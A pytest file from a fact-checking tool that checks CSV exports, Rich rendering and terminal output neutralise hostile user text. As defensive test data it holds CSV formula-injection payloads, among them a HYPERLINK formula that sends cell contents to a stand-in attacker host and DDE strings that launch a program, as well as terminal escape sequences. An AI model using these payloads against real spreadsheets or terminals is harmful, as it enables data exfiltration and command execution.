"""Issue 15: user text stays text on the way out — in CSV cells (item 3), in Rich (4), on a terminal (8)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from review_helpers import filled_store, sample_run

from factcheck.report.render import render
from factcheck.results import CheckResult
from factcheck.review.console import render_claim, render_list
from factcheck.review.export import to_csv
from factcheck.transcripts.journal import write_table
from factcheck.transcripts.summary import RunStats, Tally, render_summary, write_summary_csv

FORMULA = '=HYPERLINK("http://angriper.example/?x="&A1,"Klikk")'
ESC = "\x1b]0;pwned\x07\x1b[2J"


def evil_result(text: str) -> CheckResult:
    result, _ = sample_run()
    first = replace(result.claims[0], text=text)
    return CheckResult([first, *result.claims[1:]], result.skipped)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formula_cells(text: str) -> list[str]:
    return [c for c in cells(text) if c[:1] in ("=", "+", "-", "@")]


def test_check_csv_neutralises_formulas():
    out = render(evil_result(FORMULA), "csv")
    assert formula_cells(out) == [] and "'" + FORMULA in cells(out)


def test_review_export_csv_neutralises_formulas_in_text_note_speaker_and_reviewer(tmp_path):
    store, _ = filled_store(tmp_path / "review.db", speakers=["@SUM(1+1)*cmd|' /C calc'!A0"] * 7)
    claim = store.claims(flagged_only=False)[0]
    store.decide(claim.id, "confirmed", note="=cmd|' /C calc'!A0", reviewer="+reviewer")
    store.conn.execute("UPDATE claims SET text = ? WHERE id = ?", (FORMULA, claim.id))
    out = to_csv(store.decided(), "nb")
    store.close()
    assert formula_cells(out) == []
    assert {"'" + FORMULA, "'=cmd|' /C calc'!A0", "'+reviewer", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= set(cells(out))


def batch_row(text: str, speaker: str) -> dict:
    return {"transcript_id": "t", "utterance_id": "1", "row_id": "1", "speaker": speaker, "party": "-Parti",
            "timestamp": "", "lang": "", "source": "t.csv", "line": 2, "sentence_index": 0, "text": text, "start": 0,
            "end": len(text), "checkworthy": True, "verdict": "contradicted", "confidence": 0.9, "reason": "r",
            "reason_code": "x", "flags": ["contradicted"], "evidence": []}


def test_batch_csv_and_summary_csv_neutralise_formulas(tmp_path):
    row = batch_row(FORMULA, "@Per")
    write_table([row], tmp_path / "rows.csv", "csv")
    tally = Tally()
    tally.add(row)
    write_summary_csv(tally, tmp_path / "rows.summary.csv")
    for name in ("rows.csv", "rows.summary.csv"):
        assert formula_cells((tmp_path / name).read_text(encoding="utf-8")) == [], name
    assert "'@Per" in cells((tmp_path / "rows.summary.csv").read_text(encoding="utf-8"))


def test_rich_markup_in_claim_text_is_shown_not_parsed():
    out = render(evil_result("HAB ble etablert i Norge i 2022 [/x] [applaus]."), "table", width=200)
    assert "[/x]" in out and "[applaus]" in out


def test_rich_markup_in_a_speaker_name_does_not_crash_the_batch_summary():
    tally = Tally()
    tally.add(batch_row("Noe.", "Per [/x]"))
    out = render_summary(tally, RunStats(), "nb")
    assert "Per [/x]" in out


def test_review_list_and_show_strip_terminal_escapes(tmp_path):
    store, _ = filled_store(tmp_path / "review.db", speakers=[f"Kari{ESC}"] * 7)
    claim = store.claims(flagged_only=False)[0]
    store.conn.execute("UPDATE claims SET text = ? WHERE id = ?", (f"Sant{ESC} [applaus].", claim.id))
    store.add_note(claim.id, f"notat{ESC}", reviewer=f"r{ESC}")
    listed = render_list(store.claims(flagged_only=False), "nb", width=300)
    shown = render_claim(store.claim(claim.id), "nb", width=300)
    store.close()
    for out in (listed, shown):
        assert "\x1b" not in out and "\x07" not in out
    assert "[applaus]" in shown and "notat" in shown


def test_check_table_and_markdown_strip_terminal_escapes():
    for fmt in ("table", "md"):
        out = render(evil_result(f"Sant{ESC}."), fmt)
        assert "\x1b" not in out and "\x07" not in out, fmt
